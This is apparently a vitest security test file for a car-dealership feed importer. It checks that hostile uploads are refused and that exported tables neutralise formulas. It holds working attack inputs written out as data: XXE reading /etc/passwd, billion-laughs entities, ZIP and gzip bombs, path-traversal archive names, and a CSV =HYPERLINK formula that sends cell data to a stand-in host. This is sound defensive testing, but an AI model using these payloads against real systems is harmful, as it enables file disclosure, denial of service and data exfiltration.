import { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { gzipSync } from 'node:zlib'
import Papa from 'papaparse'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { ZipFile } from 'yazl'
import { aDiskStore } from '../../tests/support/stores'
import { channelFormatNames, channelFormats } from '../export-channels/channel-formats.contract'
import { aFile, goodRow } from './fixtures/build'
import { aHostileFeed } from './fixtures/hostile-feed'
import { one, vin } from './fixtures/importer'
import { aPhotoServer } from './fixtures/photo-server'

let feed: Awaited<ReturnType<typeof aHostileFeed>>
let server: Awaited<ReturnType<typeof aPhotoServer>>
beforeAll(async () => {
  feed = await aHostileFeed()
  server = await aPhotoServer()
})
afterAll(async () => {
  server.close()
  await feed.close()
})

const car = (more = '') => `<car><vin>${vin()}</vin><make>Honda</make><model>Fit</model>${more}</car>`
const xml = (prolog: string, more = '') => `<?xml version="1.0"?>${prolog}<cars>${car(more)}</cars>`
const laughs = 'bcdefghij'.replace(/./g, (name) => `<!ENTITY ${name} "${'&a;'.repeat(10)}">`)
const zeros = Buffer.alloc(64 * 1024 ** 2)
const deep = (depth: number) => `${'['.repeat(depth)}1${']'.repeat(depth)}`

async function zipped(files: Record<string, string | Buffer>): Promise<Buffer> {
  const zip = new ZipFile()
  for (const [name, content] of Object.entries(files)) zip.addBuffer(Buffer.from(content as string), name)
  zip.end()
  return buffer(zip.outputStream)
}
/** Its one file calls itself so. */
async function renamed(name: string): Promise<Buffer> {
  const plain = 'x'.repeat(name.length)
  const zip = await zipped({ [plain]: aFile([one()]) })
  return Buffer.from(zip.toString('latin1').replaceAll(plain, name), 'latin1')
}

type Hostile = [what: string, bytes: () => Promise<Buffer> | Buffer | string, reason: RegExp]

test.each<Hostile>([
  ['an external entity', () => xml('<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<t>&x;</t>'), /DOCTYPE/],
  ['an external DTD', () => xml(`<!DOCTYPE c SYSTEM "${server.origin}/x.dtd">`), /DOCTYPE/],
  ['an entity of a parameter', () => xml(`<!DOCTYPE c [<!ENTITY % x SYSTEM "${server.origin}/x">%x;]>`), /DOCTYPE/],
  ['a billion laughs', () => xml(`<!DOCTYPE c [<!ENTITY a "lol">${laughs}]>`, '<t>&j;</t>'), /DOCTYPE/],
  ['a web page', () => '<!doctype html><html><body><p>Sign in</p></body></html>', /web page/],
  [
    'a web page without a doctype',
    () => '<html><head><title>Sign in</title></head><body><p>x</p></body></html>',
    /web page/,
  ],
  ['a ZIP bomb', () => zipped({ 'cars.csv': zeros }), /unpacks to more than 200 times/],
  ['a gzip bomb', () => gzipSync(zeros), /unpacks to more than 200 times/],
  [
    'a ZIP in a ZIP',
    async () => zipped({ 'inner.zip': await zipped({ 'cars.csv': aFile([one()]) }) }),
    /another archive/,
  ],
  [
    'a ZIP under the name of a table',
    async () => zipped({ 'cars.csv': await zipped({ 'cars.csv': 'x' }) }),
    /packed twice/,
  ],
  ['a name that leads out of its folder', () => renamed('../../etc/cron.d/cars.csv'), /damaged/],
  ['a name from the root', () => renamed('/etc/cars.csv'), /damaged/],
  ['a name of another system', () => renamed('..\\..\\cars.csv'), /damaged/],
  [
    'a ZIP of a thousand files',
    () => zipped(Object.fromEntries(Array.from({ length: 1_001 }, (_, i) => [`${i}.jpg`, 'x']))),
    /more than 1000 files/,
  ],
  ['JSON lists 100,000 deep', () => deep(100_000), /no objects/],
  ['JSON objects 100,000 deep', () => `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`, /No vehicle with a VIN/],
  ['one endless line', () => 'x'.repeat(8_000_000), /No header row/],
  ['one endless line of cells', () => 'vin,'.repeat(2_000_000), /more than 2,000 columns/],
  ['a header that is never closed', () => `vin,make,"${'model '.repeat(1_000_000)}`, /No header row/],
  ['NULs alone', () => Buffer.alloc(1_000_000), /empty/],
  [
    '10,000 columns',
    () => `vin,make,model,${Array.from({ length: 10_000 }, (_, i) => `c${i}`)}\n${vin()},Honda,Fit\n`,
    /more than 2,000 columns/,
  ],
  [
    'noise',
    () => Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 7919 + (i >> 3) * 31) % 256)),
    /No header row/,
  ],
])('%s is refused in words, and changes nothing', async (_, bytes, reason) => {
  const before = await feed.touchable()
  const run = await feed.bring(await bytes())
  expect(run).toMatchObject({ status: 'failed', failure: expect.stringMatching(reason) })
  expect(run.codes).toMatchObject([{ severity: 'error', count: 1 }])
  expect(await feed.touchable()).toEqual(before)
  expect(server.asked).toEqual([])
})

test('a vehicle 100,000 levels deep costs its row, and what the file then misses waits for somebody', async () => {
  const before = await feed.touchable()
  const file = JSON.stringify([
    { ...goodRow, ...feed.cars[0] },
    { ...goodRow, ...one(), more: '' },
  ]).replace('"more":""', `"more":${deep(100_000)}`)
  const run = await feed.bring(file)
  expect(run).toMatchObject({ status: 'quarantined', quarantine: 'mass_delist', counts: { refused: 1, delisted: 5 } })
  expect(await feed.touchable()).toEqual(before)
  await feed.admin.delete(`/api/dealership/feed-runs/${run.id}`)
})

test('what XML would include from elsewhere is not fetched', async () => {
  const include = `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${server.origin}/x"/>`
  const cars = feed.cars.map(
    ({ vin }) => `<car><vin>${vin}</vin><make>Honda</make><description>${include}</description></car>`,
  )
  await feed.bring(`<?xml-stylesheet href="${server.origin}/s.xsl"?><cars>${cars.join('')}</cars>`)
  expect(server.asked).toEqual([])
  expect((await feed.vehicles()).some(({ description }) => description?.includes('root:'))).toBe(false)
})

test.each<[string, (text: string) => Buffer | string]>([
  ['in UTF-16 without a mark', (text) => Buffer.from(text, 'utf16le')],
  ['with NULs between its letters', (text) => text.replaceAll('Honda', 'H\0onda').replaceAll('\n', '\0\n')],
  [
    'with a column twice, whose first one counts',
    (text) => text.replaceAll('\n', '\t1\n').replace('\t1\n', '\tprice\n'),
  ],
])('a file %s is read as it is meant', async (_, written) => {
  expect(await feed.bring(written(aFile(feed.cars)))).toMatchObject({
    status: 'applied',
    counts: { read: 6, refused: 0 },
  })
  expect((await feed.vehicles()).map(({ status, priceVehicleCents }) => [status, priceVehicleCents])).toEqual(
    feed.cars.map(() => ['active', 2_439_500]),
  )
})

test('what begins a formula leaves as text, in the issues and in every table that partners fetch', async () => {
  const formulas = ['=HYPERLINK("http://x.example?"&A1,"Open")', '@SUM(1)', '+1', '-2+3', '\t=1', '\r=1', '=1\n+2']
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
  const cells = (formula: string, n: number) =>
    [feed.cars[n % 6]?.vin, formula, 'Honda', formula, formula, formula, formula, `${formula}${n}`]
      .map((cell) => quoted(cell ?? ''))
      .join()
  const rows = [...formulas.map(cells), ...formulas.map((formula) => quoted(formula).concat(',x,y,z,a,b,c,d'))]
  const run = await feed.bring(`vin,trim,make,model,body,exterior color,description,stock\n${rows.join('\n')}\n`)
  expect(run).toMatchObject({ status: 'applied', counts: { updated: 6, refused: 7 } })
  const issues = (await feed.admin.get(`/api/dealership/feed-runs/${run.id}/issues.csv`)).body as string
  expect(issues).toContain(`"'-2+3"`)
  expectHarmless(issues)
  for (const format of channelFormatNames.filter((name) => ['csv', 'txt'].includes(channelFormats[name].extension))) {
    const made = (await feed.admin.post('/api/dealership/export-channels', { name: format, format, minPhotos: 0 })).body
    const request = new Request(`http://api.embedded/api/outgoing-feeds/${made.token}.${made.channel.extension}`)
    const table = await (await feed.api.fetch(request)).text()
    expectHarmless(table)
  }
})

function expectHarmless(table: string) {
  const cells = Papa.parse<string[]>(table.replace('\uFEFF', '')).data.flat()
  expect(cells.length).toBeGreaterThan(6)
  expect(cells.filter((cell) => /^(?![+-]?\d[\d.]*$)[=+\-@\t\r]/.test(cell))).toEqual([])
}

test('50 MB are read and applied without being held in memory', async () => {
  const disk = await aDiskStore()
  const large = await aHostileFeed({ store: disk.store })
  onTestFinished(async () => {
    await large.close()
    await disk.close()
  })
  const notes = 'Nobody reads what stands in here. '.repeat(740)
  async function* pieces() {
    yield '--edge\r\ncontent-disposition: form-data; name="file"; filename="cars.txt"\r\n\r\n'
    yield aFile(large.cars.map((car) => ({ ...car, notes })))
    for (let n = 0; n < 2_000; n += 1)
      yield aFile([one({ notes })])
        .split('\n')
        .slice(1)
        .join('\n')
    yield '\r\n--edge--\r\n'
  }
  global.gc?.()
  const [idle, peak] = [held(), { bytes: 0 }]
  const watching = setInterval(() => Object.assign(peak, { bytes: Math.max(peak.bytes, held()) }), 20)
  const body = Readable.toWeb(Readable.from(pieces()).map((piece) => Buffer.from(piece)))
  const type = { 'content-type': 'multipart/form-data; boundary=edge' }
  const sent = await large.admin.post(`/api/dealership/feeds/${large.feed.id}/runs`, body, type)
  expect(sent).toMatchObject({ status: 201 })
  const run = await large.ended(sent.body.id)
  clearInterval(watching)
  expect(run).toMatchObject({ status: 'applied', counts: { read: 2_006, created: 2_000 } })
  expect(run.fileBytes).toBeGreaterThan(50_000_000)
  expect((peak.bytes - idle) / 1024 ** 2).toBeLessThan(150)
})

/** By what this thread has made. */
function held(): number {
  const { heapUsed, external } = process.memoryUsage()
  return heapUsed + external
}
